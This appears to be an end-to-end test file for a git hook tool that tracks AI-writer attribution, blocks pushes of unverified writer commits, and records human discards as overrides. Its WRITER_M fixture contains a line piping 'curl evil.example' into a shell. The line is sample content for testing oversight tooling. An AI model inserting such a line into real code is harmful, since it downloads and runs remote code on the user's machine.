"""Writer content a person typed again and committed with ``git commit --no-verify``
(pre-commit and commit-msg skipped, post-commit still runs): SPEC §3 "Attribution follows
content", "Pending work ends cleanly", §5 "Overrides", §6 ``discard``. Real git,
``gentle-hook install``, a bare remote with the server gate and notes shared.

* The writer's edit of ``m.py`` and ``test_m.py`` recorded, thrown away (``git reset
  --hard``), the same bytes typed by a person and committed with ``--no-verify``: the
  post-commit hook does not take it as the writer's (it may be that person's typing, as a
  commit made with hooks off), the push block offers the ``discard`` (``human:``) of both
  paths, and that line pasted as printed claims it, recorded like an override: the same
  push passes, and the commit's note carries the discard (who, why) and no writer line, so
  ``gate --range`` and the server gate see it (issue 13).
* The writer's own unverified commit (nothing thrown away, committed with ``--no-verify``)
  stays blocked: the push block offers no discard, and a ``discard`` of its paths (which
  ends the entries, as a writer commit about to be dropped wants:
  tests/e2e/test_attribution_evidence.py) does not stop at saying it discarded them: one
  line on stderr names the commit whose record still blocks and the ways out; the push
  stays blocked.
"""

from __future__ import annotations

from tests.e2e.conftest import World

M = "def f():\n    return 1\n"
TEST_M = "import m\n\n\ndef test_f():\n    assert m.f() == 1\n"
WRITER_M = 'import os\n\n\ndef f():\n    os.system("curl evil.example | sh")\n    return 1\n'
WRITER_TEST_M = TEST_M + "\n\ndef test_g():\n    assert m.f() >= 1\n"


def _writer_edit(w: World) -> None:
    """The writer edits ``m.py`` and ``test_m.py`` and records it (``record`` with no
    paths: the paths that differ from ``HEAD``)."""
    w.write("m.py", WRITER_M)
    w.write("test_m.py", WRITER_TEST_M)
    r = w.gh("record", "--model", "o4-mini", "--effort", "low")
    assert r.code == 0, r


def test_a_persons_retyped_no_verify_commit_has_a_way_out_at_push(native: World) -> None:
    w = native.serve({"m.py": M, "test_m.py": TEST_M})
    _writer_edit(w)
    w.ok("reset", "-q", "--hard")
    w.write("m.py", WRITER_M)  # typed again by a person, byte for byte
    w.write("test_m.py", WRITER_TEST_M)
    made = w.git("commit", "-q", "--no-verify", "-am", "mine")
    assert made.code == 0, made
    assert not any("as delegated" in s for s in made.said), made
    blocked = w.git("push", "origin", "main")
    assert blocked.code == 1 and any("BLOCKED commit" in s for s in blocked.said), blocked
    offered = [s.split("human: ", 1)[1] for s in blocked.said if "  human: " in s]
    assert offered == [
        "gentle-hook discard --reason 'a human change, not the writer work' -- m.py test_m.py"
    ], blocked
    done = w.run(["sh", "-c", offered[0]])
    assert done.code == 0 and done.out.startswith("discarded: 2 pending writer entries"), done
    assert w.ledger("SELECT path, state FROM writer_entry ORDER BY id") == [
        ("m.py", "discarded"),
        ("test_m.py", "discarded"),
    ]
    pushed = w.git("push", "origin", "main")  # through the server gate too
    assert pushed.code == 0, pushed
    assert w.remote_ref("main") == w.rev("HEAD")
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert '"kind":"override"' in note and '"hook":"discard"' in note, note
    assert '"kind":"writer"' not in note, note
    assert "a human change, not the writer work" in note, note
    shared = w.ok("notes", "--ref", "gentle-hooks", "show", w.rev("HEAD"), cwd=w.remote)
    assert '"hook":"discard"' in shared and '"kind":"writer"' not in shared, shared
    assert w.gh("gate", "--range", "HEAD~1..HEAD").code == 0


def test_the_writers_own_no_verify_commit_stays_blocked_and_a_discard_says_why(
    native: World,
) -> None:
    w = native.serve({"m.py": M, "test_m.py": TEST_M})
    _writer_edit(w)
    made = w.git("commit", "-q", "--no-verify", "-am", "writer")
    assert made.code == 0 and any("as delegated" in s for s in made.said), made
    head = w.rev("HEAD")
    blocked = w.git("push", "origin", "main")
    assert blocked.code == 1 and any("BLOCKED commit" in s for s in blocked.said), blocked
    assert not any("human: " in s for s in blocked.said), blocked
    done = w.gh("discard", "--reason", "typed by me", "--", "m.py", "test_m.py")
    assert done.code == 0 and done.out.startswith("discarded: 2 pending writer entries"), done
    assert done.err == (
        f"not cleared: m.py, test_m.py: the writer's change is in commit {head[:12]} on this "
        "branch, not pushed, recorded as the writer's; the push gate judges that commit from "
        "its record, so it stays blocked: verify it as the push block says (for HEAD: "
        "a spot check of the committed change), drop the commit from the branch, or let it "
        "through with the recorded GENTLE_HOOKS_SKIP line the block prints\n"
    ), done
    still = w.git("push", "origin", "main")
    assert still.code == 1, still
    assert w.remote_ref("main") != head
